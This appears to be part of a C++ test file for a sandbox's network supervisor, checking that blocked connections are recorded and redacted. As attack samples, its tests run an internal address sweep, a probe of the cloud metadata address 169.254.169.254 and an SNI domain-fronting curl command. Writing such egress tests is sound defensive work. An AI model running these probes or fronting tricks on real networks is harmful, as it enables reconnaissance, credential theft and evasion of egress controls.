  for (spec::SupervisorMode mode : {spec::SupervisorMode::kNotify, spec::SupervisorMode::kPtrace}) {
    SCOPED_TRACE(spec::ToString(mode));
    if (!supervisor::CheckAvailable(mode).ok()) continue;
    ++modes;
    spec::SandboxSpec s = Spec(spec::NetworkProfile::kNone);
    s.process.supervisor = mode;
    std::string route = mode == spec::SupervisorMode::kNotify ? "notify" : "trace";
    s.process.syscalls = {{{"connect", "sendto", "sendmsg"}, {}, route}};
    auto sb = Make(s);
    ASSERT_NE(sb, nullptr);
    CommandResult r = Exec(*sb, {"/opt/probe", "connect-tcp", TestNetwork::kHostA, "80"});
    EXPECT_EQ(r.stdout_preview, "connect-tcp: ENETUNREACH\n");
    ASSERT_EQ(r.violations.size(), 1u);
    EXPECT_EQ(r.violations[0].data["rule"], "direct-connect");
    EXPECT_EQ(r.violations[0].data["host"], TestNetwork::kHostA);
    EXPECT_EQ(r.violations[0].data["method"], "connect");
    // The supervisor redacts what it decodes; the attempt is still recorded (from the address as
    // the program gave it), and its violation redacted with the rest of the result.
    auto secret = sb->Exec({.argv = {"/opt/probe", "connect-tcp", TestNetwork::kHostA, "80"}},
                           {.secrets = {TestNetwork::kHostA}});
    ASSERT_TRUE(secret.ok()) << secret.status();
    ASSERT_EQ(secret->violations.size(), 1u);
    EXPECT_EQ(secret->violations[0].data["rule"], "direct-connect");
    EXPECT_EQ(secret->violations[0].data["host"], "[REDACTED:secret]");
    EXPECT_TRUE(Exec(*sb, {"/opt/probe", "connect-tcp", "127.0.0.1", "9"}).violations.empty());
    r = Exec(*sb, {"sh", "-c",
                   "python3 -c \"\n"
                   "import socket\n"
                   "for i in range(100):\n"
                   "    s = socket.socket()\n"
                   "    try: s.connect(('10.0.%d.%d' % (i // 50, i % 50 + 1), 80))\n"
                   "    except OSError: pass\n"
                   "    s.close()\n"
                   "\"; /opt/probe connect-tcp 169.254.169.254 80; exit 1"});
    EXPECT_EQ(r.exit_code, 1) << r.stderr_preview;
    EXPECT_EQ(r.stdout_preview, "connect-tcp: ENETUNREACH\n");
    EXPECT_EQ(r.classification, Classification::kExitNonzero);
    ASSERT_EQ(r.violations.size(), 65u) << r.stderr_preview;
    EXPECT_EQ(r.violations[0].data["host"], "169.254.169.254");
    EXPECT_EQ(r.violations[0].data["rule"], "direct-connect");
    EXPECT_EQ(r.violations[1].data["host"], "10.0.0.1");
    EXPECT_EQ(r.violations[64].kind, "BlockedNetworkEgressOmitted");
    EXPECT_EQ(r.violations[64].data["omitted"], 101 - 64);
    DestroyAndCheckGone(std::move(sb));
  }
  if (modes == 0) GTEST_SKIP() << "this host provides neither supervisor mode";
}

// Attack: SNI-based domain fronting with a real client. curl is told to connect to an allowed
// host (registry.test, port 443) for a URL of another one, so its CONNECT names the allowed host
// while its TLS ClientHello asks for other.test. Expected: the proxy closes the tunnel, the
// command's violation names other.test under tls-server-name:not-allowlisted, and the command
// is NETWORK_REQUIRED. The same curl without the trick reaches the server on 443 (a plain echo
// here, so its TLS handshake fails there, after the proxy let it through).
TEST_F(NetworkTest, ATunnelCannotAskAnAllowedHostForAnotherSite) {
  auto tls = TestServer::Start(
      {TestServer::Kind::kEcho, TestNetwork::kHostA, 443, net_->public_ns(), "tls-a", ""});
  ASSERT_TRUE(tls.ok()) << tls.status();
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  CommandResult direct = Exec(*sb, {"curl", "-sS", "--max-time", "10", "https://registry.test/"});
  EXPECT_EQ(direct.exit_code, 35) << direct.stderr_preview;  // a TLS error from the echo
  EXPECT_TRUE(direct.violations.empty());
  CommandResult fronted = Exec(*sb, {"curl", "-sS", "--max-time", "10", "--connect-to",
                                     "other.test:443:registry.test:443", "https://other.test/"});
  EXPECT_NE(fronted.exit_code, 0);
  EXPECT_EQ(fronted.classification, Classification::kNetworkRequired) << fronted.stderr_preview;
  ASSERT_EQ(fronted.violations.size(), 1u);
  EXPECT_EQ(fronted.violations[0].data["host"], "other.test");
  EXPECT_EQ(fronted.violations[0].data["rule"], "tls-server-name:not-allowlisted");
  DestroyAndCheckGone(std::move(sb));
}

}  // namespace
}  // namespace airlock::engine
